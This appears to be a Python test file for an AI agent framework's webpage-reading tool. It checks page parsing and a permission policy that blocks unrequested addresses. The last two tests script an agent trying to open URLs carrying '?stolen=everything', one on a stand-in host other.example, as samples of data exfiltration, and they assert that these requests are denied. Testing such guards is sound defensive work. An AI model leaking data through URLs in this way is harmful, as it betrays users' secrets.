"""The web tools in the hands of both kinds of agent: what arrives, and which addresses are asked for."""

import io

from PIL import Image

from agent_core import CodeAgent, Policy, Tool, ToolCallingAgent
from agent_core.models.base import Capabilities
from agent_core.permissions import PermissionRequest
from tests.agent_core.support import code
from tests.doubles.openai_server import Reply
from tests.support import model_of
from tests.tools.loopback import Loopback

TABLE = """<html><head><title>Rivers</title></head><body><main><h1>Rivers</h1>
<table><caption>Long ones</caption><tr><th>River</th><th>km</th></tr><tr><td>Glomma</td><td>621</td></tr></table>
<p>See <a href="/more">more</a>.</p></main></body></html>"""


def png() -> bytes:
    buffer = io.BytesIO()
    Image.new("RGB", (3, 2)).save(buffer, format="PNG")
    return buffer.getvalue()


async def answer(serve, server, replies, question, **settings):
    loopback = Loopback(server)
    model = serve([reply.replace("SITE", loopback.url("")) for reply in replies])
    settings["tools"] = [Tool(loopback.reader.visit_webpage)]
    async with CodeAgent(model_of(model), **settings) as agent:
        result = await agent.run(question.replace("SITE", loopback.url("")))
    return str(result.answer), [request.body["messages"][-1]["content"] for request in model.requests[1:]]


async def test_a_page_arrives_as_data_and_prints_as_text(serve, server):
    server.serve("/rivers", TABLE, content_type="text/html")
    look = "page = visit_webpage('SITE/rivers')\nprint(page)\n(page.links[0].url, page.title)"
    table = """
import pandas as pd
table = page.tables[0]
frame = pd.DataFrame(table.rows, columns=table.columns)
final_answer(f"{table.caption}: {frame['km'].astype(int).sum()} {page['title']}")
"""
    said, observed = await answer(serve, server, [code(look), code(table)], "How long is it? SITE/rivers")
    assert said == "Long ones: 621 Rivers"
    assert "| Glomma | 621 |" in observed[0] and "/more', 'Rivers')" in observed[0]


async def test_a_picture_arrives_as_bytes(serve, server):
    server.serve("/dot.png", png(), content_type="image/png")
    look = "from PIL import Image\nimport io\npage = visit_webpage('SITE/dot.png')\n"
    look += "final_answer(Image.open(io.BytesIO(page.data)).size)"
    said, _ = await answer(serve, server, [code(look)], "How large is SITE/dot.png?")
    assert said == "(3, 2)"


async def test_an_agent_that_calls_tools_reads_the_page(serve, server):
    server.serve("/rivers", TABLE, content_type="text/html")
    loopback = Loopback(server)
    replies = [Reply(call=("visit_webpage", {"url": loopback.url("/rivers")})), "621 km."]
    model = model_of(service := serve(replies))
    model.capabilities = Capabilities(tools=True)
    async with ToolCallingAgent(model, tools=[Tool(loopback.reader.visit_webpage)]) as agent:
        await agent.run(f"How long? {loopback.url('/rivers')}")
    assert "| Glomma | 621 |" in service.requests[1].body["messages"][-1]["content"]


async def test_only_addresses_that_nobody_made_up_are_opened_unasked(serve, server):
    server.serve("/rivers", TABLE, content_type="text/html")
    server.serve("/more", "secrets come here", content_type="text/plain")
    asked: list[PermissionRequest] = []

    async def refuse(request):
        asked.append(request)
        return "deny"

    steps = ["visit_webpage('SITE/rivers').links[0].url", "visit_webpage('SITE/more').text"]
    replies = [*map(code, steps), code("visit_webpage('SITE/more?stolen=everything')"), "Done."]
    _, observed = await answer(serve, server, replies, "Read SITE/rivers", policy=Policy(ask=refuse))
    assert "secrets come here" in observed[1]
    assert "was not allowed: it came neither from the user" in observed[2]
    assert [request.kind for request in asked] == ["address"]
    assert "/more?stolen=everything" in asked[0].meaning
    assert [path for _, path in server.requests] == ["/rivers", "/more"]


async def test_addresses_of_listed_hosts_are_opened_unasked(serve, server):
    server.serve("/more", "open", content_type="text/plain")
    replies = [code("final_answer(visit_webpage('SITE/more').text)")]
    hosts = [f"site.example:{server.server_address[1]}"]
    said, _ = await answer(serve, server, replies, "Read it.", policy=Policy(hosts=hosts))
    assert said == "open"


async def test_a_page_of_a_host_that_is_allowed_as_a_whole_makes_no_address_known(serve, server):
    """The model may have put into the address what the page then repeats."""
    leak = "http://other.example/?stolen=everything"
    server.serve("/echo?q=stolen", f'<p>You asked for <a href="{leak}">{leak}</a></p>', content_type="text/html")
    replies = [code("visit_webpage('SITE/echo?q=stolen').links[0].url"), code(f"visit_webpage({leak!r})"), "Done."]
    hosts = [f"site.example:{server.server_address[1]}"]
    _, observed = await answer(serve, server, replies, "Read it.", policy=Policy(hosts=hosts))
    assert leak in observed[0]
    assert f"Opening {leak} was not allowed" in observed[1]
    assert [path for _, path in server.requests] == ["/echo?q=stolen"]
